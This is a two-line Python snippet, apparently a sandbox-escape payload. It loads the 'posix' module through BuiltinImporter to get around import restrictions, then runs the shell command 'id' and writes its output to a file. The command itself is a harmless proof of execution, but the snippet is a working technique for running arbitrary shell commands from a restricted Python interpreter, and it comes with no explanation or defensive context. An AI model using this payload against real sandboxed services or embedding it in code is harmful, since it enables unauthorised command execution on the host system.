from importlib.machinery import BuiltinImporter
BuiltinImporter.load_module("posix").system("id>pf")
